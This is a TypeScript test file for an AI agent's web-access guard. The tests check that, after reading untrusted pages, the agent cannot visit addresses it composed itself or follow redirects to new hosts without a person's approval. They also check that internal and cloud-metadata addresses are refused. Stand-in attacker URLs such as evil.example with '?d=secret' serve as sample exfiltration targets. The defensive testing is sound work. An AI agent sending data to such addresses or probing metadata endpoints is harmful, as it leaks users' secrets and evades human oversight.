import { thrown } from '../../tools/thrown';
import { playedWeb } from './played-web';

const never = { 'cache-control': 'no-store' };
const page = (body: string, headers: Readonly<Record<string, string>> = never) => ({
	body: `<title>T</title><p>${body}</p>`,
	headers,
});

const start = page(
	'<a href="/next?page=2#part">more</a> <a href="https://b.example/known">b</a> <a href="http://a.example/plain">p</a> <a href="/go">go</a> <a href="/away">away</a> <a href="https://b.example/c_(d)">d</a>',
);

const leads: Readonly<Record<string, string>> = {
	'https://a.example/go': 'https://a.example/there?from=go',
	'https://a.example/away': 'https://evil.example/?d=secret',
	'https://a.example/over': 'https://b.example/?d=1',
	'https://named.example/redirect': 'https://a.example/?d=secret',
	'https://a.example/down': 'http://a.example/?d=1',
};

/** A run that has asked a.example and b.example, and has read what strangers wrote there. */
async function tainted(list = '') {
	const world = playedWeb(
		(_request, address) => {
			const location = leads[address];
			if (location !== undefined) return { status: 302, headers: { location } };
			if (address === 'https://a.example/') return start;
			if (address.startsWith('https://named.example/echo'))
				return page(`You looked for ${new URL(address).searchParams.get('q')}`);
			return page('x');
		},
		{ list },
	);
	await world.pages.read('https://a.example/');
	await world.pages.read('https://b.example/');
	world.state.isAsked = true;
	world.sent.length = 0;
	return world;
}

const reads = async (world: Awaited<ReturnType<typeof tainted>>, url: string) => {
	const isNew = (await world.pages.newHost(url)) !== undefined;
	const error = await world.pages.read(url).then(
		() => undefined,
		(cause: { code: string; message: string }) => cause,
	);
	expect(isNew).toBe(error !== undefined);
	return error === undefined;
};

test.each([
	...['https://a.example/', 'https://a.example/#other', 'https://a.example/next?page=2'],
	...['https://a.example/next?page=2#part', 'https://b.example/', 'https://b.example/known'],
	'https://a.example/plain',
	'https://b.example/c_(d)',
])('after foreign text the run goes on to %s, which it was shown', async (url) => {
	expect(await reads(await tainted(), url)).toBe(true);
});

test.each([
	'https://a.example/?d=secret',
	'https://a.example/next?page=2&d=secret',
	'https://a.example/secret',
	'https://www.a.example/',
	'https://a.example:8443/',
	'http://a.example/',
	'http://a.example/plain',
	'https://new.example/',
])('a person is asked about %s, which the agent wrote', async (url) => {
	const world = await tainted();
	expect(await reads(world, url)).toBe(false);
	expect(world.sent).toEqual([]);
});

test('a link to a host that the run never asked is no way out', async () => {
	const world = playedWeb(() => page('<a href="https://evil.example/1">1</a>'));
	await world.pages.read('https://a.example/');
	world.state.isAsked = true;
	expect(await reads(world, 'https://evil.example/1')).toBe(false);
});

test('once a person has agreed to a host, all of its addresses are open, over an encrypted line', async () => {
	const world = await tainted();
	const found = await world.pages.newHost('https://new.example/?d=1');
	expect(found?.host).toBe('new.example');
	world.agreed.add(found?.key ?? '');
	expect(await reads(world, 'https://new.example/?d=2')).toBe(true);
	expect(await reads(world, 'https://www.new.example/?d=2')).toBe(true);
	expect(await reads(world, 'http://new.example/?d=2')).toBe(false);
	expect(await reads(world, 'https://new.example:8443/')).toBe(false);
});

test('who agreed to a host without encryption is told so, and has agreed to it with encryption', async () => {
	const world = await tainted();
	const found = await world.pages.newHost('http://new.example/');
	expect(found?.host).toBe('http://new.example');
	world.agreed.add(found?.key ?? '');
	expect(await reads(world, 'http://new.example/1')).toBe(true);
	expect(await reads(world, 'https://new.example/1')).toBe(true);
});

test('a domain that the operator named is open as a whole, over an encrypted line alone', async () => {
	const world = await tainted('*, named.example, http://plain.example');
	expect(await reads(world, 'https://named.example/?d=1')).toBe(true);
	expect(await reads(world, 'http://named.example/?d=1')).toBe(false);
	expect(await reads(world, 'http://plain.example/?d=1')).toBe(true);
});

describe('a redirect', () => {
	const refusal = (url: string) => ({ code: 'forbidden', said: url });

	test('to where it came from is followed', async () => {
		const world = await tainted();
		await world.pages.read('https://a.example/go');
		expect(world.addresses).toEqual(['https://a.example/go', 'https://a.example/there?from=go']);
	});

	test('to a new host is not, nor from an encrypted line to a plain one', async () => {
		const world = await tainted();
		const away = await thrown(async () => await world.pages.read('https://a.example/away'));
		expect(away).toMatchObject(refusal('https://evil.example/?d=secret'));
		world.agreed.add(JSON.stringify(['web', 'https://a.example']));
		const down = await thrown(async () => await world.pages.read('https://a.example/down'));
		expect(down).toMatchObject(refusal('http://a.example/?d=1'));
		expect(world.addresses).toEqual(['https://a.example/away', 'https://a.example/down']);
	});

	test('of an address that the agent wrote carries nothing to a host that is only known', async () => {
		const world = await tainted('*, named.example');
		const error = await thrown(
			async () => await world.pages.read('https://named.example/redirect'),
		);
		expect(error).toMatchObject(refusal('https://a.example/?d=secret'));
		world.agreed.add(JSON.stringify(['web', 'https://a.example']));
		const over = await thrown(async () => await world.pages.read('https://a.example/over'));
		expect(over).toMatchObject(refusal('https://b.example/?d=1'));
	});

	test('that memory knows is judged as if it were new', async () => {
		const world = playedWeb((_request, address) =>
			address === 'https://a.example/away'
				? { status: 302, headers: { location: 'https://evil.example/' } }
				: page('x', { 'cache-control': 'max-age=600' }),
		);
		await world.pages.read('https://a.example/away');
		world.state.run = 'another';
		world.agreed.add(JSON.stringify(['web', 'https://a.example']));
		world.state.isAsked = true;
		await expect(world.pages.read('https://a.example/away')).rejects.toMatchObject({
			code: 'forbidden',
		});
	});
});

test('a page that repeats what the agent wrote shows it nothing', async () => {
	const world = await tainted('*, named.example');
	const wanted = 'https://a.example/?d=secret';
	const echo = await world.pages.read(`https://named.example/echo?q=${encodeURIComponent(wanted)}`);
	expect(echo.content).toContain(wanted);
	expect(await reads(world, wanted)).toBe(false);
});

test('where nobody is asked, all of this is open', async () => {
	const world = await tainted();
	world.state.isAsked = false;
	await world.pages.read('https://evil.example/?d=secret');
	expect(world.sent).toHaveLength(1);
});

test.each([
	'http://127.0.0.1/',
	'http://169.254.169.254/latest',
	'http://a.internal/',
	'http://[::1]/',
])('nobody is asked about %s, which is refused anyway', async (url) => {
	const { pages } = await tainted('*');
	expect(await pages.newHost(url)).toBeUndefined();
	await expect(pages.read(url)).rejects.toMatchObject({ code: 'forbidden' });
});
